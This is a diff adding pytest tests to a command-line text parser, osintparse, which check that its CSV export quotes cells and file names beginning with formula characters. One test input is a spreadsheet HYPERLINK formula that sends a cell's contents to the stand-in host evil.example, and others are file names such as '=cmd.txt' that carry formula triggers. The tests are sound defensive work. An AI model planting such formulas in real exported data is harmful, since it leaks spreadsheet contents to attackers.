@@ -14,13 +14,16 @@ from osintparse.cli import main
 from tests.conftest import SEED_PATH
 
 
-def run(*args: str, stdin: bytes | None = None) -> subprocess.CompletedProcess[bytes]:
+def run(
+    *args: str, stdin: bytes | None = None, cwd: pathlib.Path | None = None
+) -> subprocess.CompletedProcess[bytes]:
     return subprocess.run(
         [sys.executable, "-m", "osintparse", *args],
         input=stdin,
         capture_output=True,
         timeout=120,
         check=False,
+        cwd=cwd,
     )
 
 
@@ -220,3 +223,48 @@ def test_help_documents_directories() -> None:
     r = run("--help")
     assert "directory" in r.stdout.decode()
     assert "recursively" in r.stdout.decode()
+
+
+def test_csv_cells_cannot_run_as_formulas(tmp_path: pathlib.Path) -> None:
+    """Issue 17 item 4: a cell beginning with = + - @ tab or CR was written raw."""
+    import csv
+    import io
+
+    from osintparse.tables import CSV_FORMULA_TRIGGERS
+
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
+    lines = [evil, "+33 1 23 45 67 89 a appelé.", "-2+3 est un calcul.", "@SUM(A1) ici."]
+    lines += ["\tTabulé au début.", "\rRetour chariot."]
+    path = tmp_path / "@evil.txt"
+    path.write_text("\n\n".join(lines), encoding="utf-8")
+    r = run(str(path), "--format", "csv", "--layer", "paragraphs", "--lang", "fr")
+    assert r.returncode == 0, r.stderr
+    rows = list(csv.DictReader(io.StringIO(r.stdout.decode("utf-8"), newline="")))
+    assert rows
+    cells = [cell for row in rows for cell in row.values()]
+    risky = [c for c in cells if c.startswith(CSV_FORMULA_TRIGGERS)]
+    assert risky == []
+    assert rows[0]["text"] == "'" + evil
+    assert rows[1]["text"].startswith("'+33 1 23")
+    for row in csv.DictReader(io.StringIO(run(str(path), "--format", "csv").stdout.decode())):
+        assert not any(v.startswith(CSV_FORMULA_TRIGGERS) for v in row.values()), row
+
+
+def test_csv_file_name_column_is_neutralised(tmp_path: pathlib.Path) -> None:
+    import csv
+    import io
+
+    (tmp_path / "=cmd.txt").write_text("Titre\n\nUne phrase.", encoding="utf-8")
+    r = run("=cmd.txt", "--format", "csv", "--lang", "fr", cwd=tmp_path)
+    assert r.returncode == 0, r.stderr
+    rows = list(csv.DictReader(io.StringIO(r.stdout.decode())))
+    assert rows
+    assert {row["article_id"] for row in rows} == {"'=cmd.txt"}
+
+
+@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_trigger_is_quoted(first: str) -> None:
+    from osintparse import tables
+
+    row = tables.csv_row({"a": first + "1+1", "b": "ok", "n": -3, "x": -0.5, "none": None})
+    assert row == {"a": "'" + first + "1+1", "b": "ok", "n": -3, "x": -0.5, "none": ""}
